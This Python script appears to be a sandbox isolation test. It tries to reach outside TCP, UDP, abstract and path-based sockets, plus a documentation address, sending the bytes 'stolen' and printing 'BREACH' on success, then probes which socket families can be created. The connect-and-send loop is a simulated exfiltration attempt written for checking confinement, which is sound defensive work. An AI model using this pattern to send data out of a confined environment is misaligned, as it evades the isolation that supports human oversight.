# argv: a TCP port, a UDP port, an abstract name and the path of a socket, all listening outside.
import socket
import sys

tcp, udp, abstract, path = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
targets = [
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", tcp)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", udp)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\0" + abstract),
    (socket.AF_UNIX, socket.SOCK_STREAM, path),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", tcp)),
    (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
]
for family, kind, address in targets:
    try:
        end = socket.socket(family, kind)
        end.settimeout(0.2)
        end.connect(address)
        end.send(b"stolen")
        print("BREACH reached", address)
    except OSError:
        pass
for family in range(46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            socket.socket(family, kind)
            print("BREACH socket of family", family)
        except OSError:
            pass
for family in range(46):
    try:
        socket.socketpair(family)
        if family != socket.AF_UNIX:
            print("BREACH pair of family", family)
    except OSError:
        if family == socket.AF_UNIX:
            print("BREACH of a promise: no socket pairs")
print("tried", flush=True)
